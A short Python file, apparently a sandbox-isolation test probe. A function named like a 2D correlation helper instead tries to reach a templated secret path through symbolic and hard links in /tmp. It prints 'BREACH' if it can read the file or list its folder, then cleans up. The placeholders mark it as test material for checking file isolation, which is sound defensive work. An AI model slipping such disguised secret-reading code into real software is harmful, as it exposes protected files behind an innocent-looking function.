import os


def corr2d(X, K):
    for make, name in ((os.symlink, "/tmp/soft-@PARENT@"), (os.link, "/tmp/hard-@PARENT@")):
        try:
            make("@SECRET@", name)
            print("BREACH", open(name).read())
        except OSError:
            pass
    try:
        os.symlink(os.path.dirname("@SECRET@"), "/tmp/folder-@PARENT@")
        print("BREACH", os.listdir("/tmp/folder-@PARENT@"))
    except OSError:
        pass
    for name in ("soft", "hard", "folder"):
        if os.path.lexists(f"/tmp/{name}-@PARENT@"):
            os.remove(f"/tmp/{name}-@PARENT@")
    return X
